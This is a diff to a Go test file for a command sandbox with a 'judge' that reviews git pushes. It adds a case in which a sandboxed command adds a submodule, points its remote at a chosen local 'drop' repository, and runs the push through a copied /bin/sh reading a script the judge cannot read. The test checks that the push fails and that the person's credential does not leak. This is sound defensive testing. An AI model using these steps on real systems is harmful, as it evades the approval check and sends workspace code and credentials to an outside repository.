@@ -236,8 +236,9 @@ func TestGitPushJudged(t *testing.T) {
 // from there is asked about, and git in the sandbox gets no credential
 // for them, even through a script the judge cannot read, and is told why
 // (found by an attacker: the person's credential pushed the workspace to
-// a repository of the command's choosing). A repository the person made
-// in the workspace keeps pushing to its own remote.
+// a repository of the command's choosing); so is a submodule a command
+// adds. A repository the person made in the workspace keeps pushing to
+// its own remote.
 func TestGitPushMadeRepository(t *testing.T) {
 	for _, backend := range []string{"bwrap", "landlock"} {
 		for _, session := range []string{"on", "off"} {
@@ -268,6 +269,31 @@ func TestGitPushMadeRepository(t *testing.T) {
 				leaks(t, "git push", out+errs)
 				if strings.Contains(out, "push exit 0") || !strings.Contains(out, "was made by a sandboxed command") || !strings.Contains(out, "run git yourself") {
 					t.Errorf("a push from the command's repository in a script: no failure that says why:\n%s\n%s", out, errs)
+				}
+				if got, _ := exec.Command("git", "--git-dir", drop, "for-each-ref").Output(); len(got) != 0 {
+					t.Errorf("the command's remote got %s", got)
+				}
+				for _, s := range seen()[before:] {
+					if s == "person:"+realGitPass {
+						t.Errorf("the person's credential went to the command's remote: %q", seen()[before:])
+					}
+				}
+				// A submodule the command adds (its git directory in the
+				// workspace's .git/modules), its remote of the command's
+				// choosing: the same.
+				// (In a script the judge cannot read, a program of the
+				// workspace's: the judge asks about git submodule add.)
+				sub := fmt.Sprintf("git -c protocol.file.allow=always submodule add -q \"$PWD\" sub && git -C sub remote set-url origin https://127.0.0.1:%d/drop.git && git -C sub fetch -q ../o feature:feature && cp /bin/sh sub/x && echo added\n", port)
+				os.WriteFile(filepath.Join(r.ws, ".q"), []byte(sub), 0o644)
+				r.host("cp /bin/sh x")
+				if out, errs, _ := r.sh("./x < .q"); !strings.Contains(out, "added") {
+					t.Fatalf("%s:\n%s\n%s", sub, out, errs)
+				}
+				os.WriteFile(filepath.Join(r.ws, "sub", ".q"), []byte("git push -q origin feature 2>&1; echo \"push exit $?\"\n"), 0o644)
+				out, errs, _ = r.shIn(filepath.Join(r.ws, "sub"), "./x < .q")
+				leaks(t, "git push", out+errs)
+				if strings.Contains(out, "push exit 0") || !strings.Contains(out, "was made by a sandboxed command") {
+					t.Errorf("a push from the command's submodule in a script: no failure that says why:\n%s\n%s", out, errs)
 				}
 				if got, _ := exec.Command("git", "--git-dir", drop, "for-each-ref").Output(); len(got) != 0 {
 					t.Errorf("the command's remote got %s", got)
